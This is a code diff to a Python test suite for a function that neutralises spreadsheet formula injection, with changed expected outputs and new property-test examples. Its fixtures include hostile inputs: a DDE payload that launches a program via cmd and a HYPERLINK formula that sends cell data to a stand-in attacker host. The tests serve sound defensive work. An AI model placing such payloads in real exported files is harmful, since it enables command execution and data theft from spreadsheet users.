@@ -23,9 +23,9 @@ from runner.cli.spreadsheet import harmless, line
         ("@SUM(A1)", "'@SUM(A1)"),
         ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
         ('=HYPERLINK("https://evil.example/?"&A1,"open")', '\'=HYPERLINK("https://evil.example/?"&A1,"open")'),
-        ("\t=1", "'\t=1"),
-        ("\r=1", "'\r=1"),
-        ("\n=1", "'\n=1"),
+        ("\t=1", "'\t'=1"),
+        ("\r=1", "'\r'=1"),
+        ("\n=1", "'\n'=1"),
         ("\tplain", "'\tplain"),
         ("\rplain", "'\rplain"),
         ("  =1", "'  =1"),
@@ -64,6 +64,8 @@ SHARP = st.text(st.sampled_from(" =+-@＝;\t\r\n\"',a\x00\ufeff\u200b") | st.cha
 @given(SHARP)
 @example("=")
 @example("a\n\n \r=")
+@example(";=")
+@example("\t =")
 def test_no_text_starts_a_formula_wherever_a_cell_may_start(text: str) -> None:
     """By whatever a spreadsheet splits, no piece begins with a sign; and text without such a piece stays as it is."""
     pieces = re.split(r"[;\t\r\n]", harmless(text))
